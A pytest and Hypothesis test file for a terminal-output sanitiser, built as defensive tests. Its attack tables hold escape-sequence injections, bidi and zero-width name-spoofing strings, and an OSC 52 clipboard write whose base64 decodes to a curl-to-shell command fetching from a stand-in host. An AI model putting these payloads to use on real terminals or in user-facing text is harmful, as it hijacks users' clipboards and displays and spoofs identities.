"""The sanitiser itself (reconnect_tui/text_safety.py): real attack strings, then Hypothesis."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reconnect_tui.text_safety import (
    clean_deep,
    clean_label,
    clean_text,
    is_terminal_safe,
    label_problems,
)

ATTACKS = [
    # (what, input, clean_text result)
    ("OSC title + BEL", "\x1b]0;You have been hacked\x07Hello", "Hello"),
    ("OSC title + ST", "\x1b]2;pwned\x1b\\Hello", "Hello"),
    ("OSC 52 clipboard write", "Hi\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 there", "Hi there"),
    ("OSC 8 hyperlink", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "click"),
    ("colour codes", "\x1b[31mRED\x1b[0mNabo Bjørn", "REDNabo Bjørn"),
    ("cursor moves and erase", "ok\x1b[2K\x1b[1A\x1b[?25lfake", "okfake"),
    ("DCS", "a\x1bP+q544e\x1b\\b", "ab"),
    ("APC / PM / SOS", "a\x1b_x\x1b\\b\x1b^y\x1b\\c\x1bXz\x1b\\d", "abcd"),
    ("8-bit CSI", "a\x9b31mb", "ab"),
    ("8-bit OSC", "a\x9d0;title\x9cb", "ab"),
    ("8-bit DCS", "a\x90q\x9cb", "ab"),
    ("unterminated OSC keeps its text", "a\x1b]0;title", "a0;title"),
    ("lone ESC at the end", "bye\x1b", "bye"),
    ("charset select", "a\x1b(0b", "ab"),
    ("keypad mode, reset", "a\x1b=b\x1bcc", "abc"),
    ("bell, backspace, NUL, DEL", "a\x07b\x08c\x00d\x7fe", "abcde"),
    ("CR overwrite trick", "safe\rEVIL", "safe\nEVIL"),
    ("CRLF", "one\r\ntwo", "one\ntwo"),
    ("NEL and line separator", "one\x85two\u2028three", "one\ntwo\nthree"),
    ("bidi override (Trojan Source)", "admin\u202e\u2066txt.exe\u2069", "admintxt.exe"),
    ("zero width space and BOM", "Ka\u200bri\ufeff", "Kari"),
    ("lone surrogate", "a\ud800b", "a\ufffdb"),
    ("newline and tab stay", "line 1\n\tline 2", "line 1\n\tline 2"),
    ("emoji ZWJ sequence stays", "👩\u200d👩\u200d👧", "👩\u200d👩\u200d👧"),
    ("Norwegian and Arabic stay", "Bjørn Ærø مرحبا", "Bjørn Ærø مرحبا"),
]


@pytest.mark.parametrize(("what", "raw", "expected"), ATTACKS, ids=[a[0] for a in ATTACKS])
def test_clean_text_removes_attacks(what: str, raw: str, expected: str) -> None:
    assert clean_text(raw) == expected
    assert is_terminal_safe(clean_text(raw))


LABELS = [
    ("colour codes in a name", "\x1b[31mRED\x1b[0mNabo Bjørn", "REDNabo Bjørn"),
    ("override made visible", "Dr Lind\u202e", "Dr Lind<U+202E>"),
    ("isolate made visible", "\u2067Dr Lind", "<U+2067>Dr Lind"),
    ("zero width made visible", "Dr\u200b Lind", "Dr<U+200B> Lind"),
    ("Hangul filler made visible", "Dr Lind\u3164", "Dr Lind<U+3164>"),
    ("one line", "Dr\nLind\tx", "Dr Lind x"),
    ("title sequence in a pseudonym", "Moon\x1b]0;x\x07", "Moon"),
    ("plain name unchanged", "Kari Nordmann", "Kari Nordmann"),
]


@pytest.mark.parametrize(("what", "raw", "expected"), LABELS, ids=[a[0] for a in LABELS])
def test_clean_label_shows_spoofing(what: str, raw: str, expected: str) -> None:
    assert clean_label(raw) == expected


def test_a_spoofed_partner_name_differs_from_the_real_one() -> None:
    real = "Dr Lind"
    assert clean_label("Dr Lind\u200b") != clean_label(real)
    assert clean_label("\u202aDr Lind\u202c") != clean_label(real)


def test_label_problems_names_each_character_once() -> None:
    assert label_problems("Kari") == []
    assert label_problems("\x1b[31mKari\x1b[0m") == ["U+001B"]
    assert label_problems("Ka\u202eri\u0007\n") == ["U+202E", "U+0007", "U+000A"]


def test_clean_deep_cleans_keys_and_nested_values() -> None:
    data = {"na\x07me": ["\x1b]0;t\x07x", {"y": "\u202ez"}], "n": 3, "b": None}
    assert clean_deep(data) == {"name": ["x", {"y": "z"}], "n": 3, "b": None}


def test_a_long_run_of_unterminated_sequences_is_fast_enough() -> None:
    """Bodies stop at the next ESC or C1: 60 000 unterminated openers, one linear pass."""
    assert clean_text("\x1b]" * 20000 + "\x9d" * 20000 + "\x1bP" * 20000 + "end") == "end"


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_clean_text_is_safe_and_idempotent(raw: str) -> None:
    once = clean_text(raw)
    assert is_terminal_safe(once)
    assert clean_text(once) == once
    once.encode("utf-8")  # no lone surrogate survives


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("\x1b\x07\x9b\x9c\x9d[]0;Pm\\\x90ab\r\n")))
def test_clean_text_on_escape_soup(raw: str) -> None:
    once = clean_text(raw)
    assert is_terminal_safe(once) and "\x07" not in once and "\r" not in once
    assert clean_text(once) == once


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_clean_label_is_one_safe_line_and_idempotent(raw: str) -> None:
    once = clean_label(raw)
    assert is_terminal_safe(once)
    assert "\n" not in once and "\t" not in once
    assert clean_label(once) == once
    assert label_problems(once) == []
